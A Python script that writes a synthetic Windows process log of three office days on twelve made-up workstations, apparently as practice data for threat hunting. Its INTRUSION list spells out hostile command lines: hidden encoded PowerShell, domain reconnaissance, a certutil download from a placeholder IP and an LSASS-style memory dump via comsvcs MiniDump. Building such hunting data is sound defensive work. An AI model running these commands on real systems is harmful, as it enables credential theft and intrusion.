"""A log of made-up Windows machines: three days of office work, and one night on which somebody else is at work."""

from __future__ import annotations

import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

BEGIN = datetime(2026, 11, 16, tzinfo=timezone.utc)
DAYS = 3
HOSTS = [f"ws-{number:02}" for number in range(1, 13)]
HUNTED = "ws-07"
"""The machine of the intruder."""

WORK = [
    ("explorer.exe", "winword.exe", "winword.exe /n report.docx"),
    ("explorer.exe", "excel.exe", "excel.exe budget.xlsx"),
    ("explorer.exe", "outlook.exe", "outlook.exe"),
    ("explorer.exe", "msedge.exe", "msedge.exe --profile-directory=Default"),
    ("services.exe", "svchost.exe", "svchost.exe -k netsvcs -p"),
    ("svchost.exe", "taskhostw.exe", "taskhostw.exe Logon"),
]
INTRUSION = [
    ("winword.exe", "cmd.exe", "cmd.exe /c powershell"),
    ("cmd.exe", "powershell.exe", "powershell.exe -w hidden -enc " + "SQBFAFgA" * 40),
    ("powershell.exe", "whoami.exe", "whoami.exe /all"),
    ("powershell.exe", "net.exe", 'net.exe group "Domain Admins" /domain'),
    ("powershell.exe", "certutil.exe", "certutil.exe -urlcache -f http://203.0.113.7/a.txt a.exe"),
    ("powershell.exe", "rundll32.exe", "rundll32.exe comsvcs.dll, MiniDump 624 c:\\temp\\l.dmp full"),
    ("powershell.exe", "tasklist.exe", "tasklist.exe /svc"),
    ("powershell.exe", "nltest.exe", "nltest.exe /domain_trusts"),
]


def write_log(path: Path, seed: int = 7) -> int:
    """Writes the log as lines of JSON in the order of time: how many there are. The same seed writes the same log."""
    chance = random.Random(seed)
    events = [event for host in HOSTS for event in _days(host, chance)]
    night = BEGIN + timedelta(days=DAYS - 1, hours=2, minutes=5)
    for step, (parent, image, command) in enumerate(INTRUSION * 2):
        events.append(_event(night + timedelta(seconds=40 * step), HUNTED, "ann", parent, image, command))
    events.sort(key=lambda event: event["@timestamp"])
    path.write_text("".join(json.dumps(event) + "\n" for event in events), encoding="utf-8")
    return len(events)


def _days(host: str, chance: random.Random) -> list[dict[str, str]]:
    events = []
    for hour in range(24 * DAYS):
        at_work = 7 <= hour % 24 <= 18
        for _ in range(chance.randint(8, 16) if at_work else chance.randint(1, 4)):
            parent, image, command = chance.choice(WORK if at_work else WORK[4:])
            time = BEGIN + timedelta(hours=hour, seconds=chance.uniform(0, 3_599))
            events.append(_event(time, host, "ann" if at_work else "SYSTEM", parent, image, command))
    # An administrator looks who they are once in a while: a finding that is none.
    time = BEGIN + timedelta(hours=chance.randint(8, 17), minutes=chance.randint(0, 59))
    events.append(_event(time, host, "admin", "cmd.exe", "whoami.exe", "whoami.exe"))
    return events


def _event(time: datetime, host: str, user: str, parent: str, image: str, command: str) -> dict[str, str]:
    folder = "C:\\Windows\\System32\\"
    return {
        "@timestamp": time.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "Hostname": host,
        "User": user,
        "ParentImage": folder + parent,
        "Image": folder + image,
        "CommandLine": command,
    }
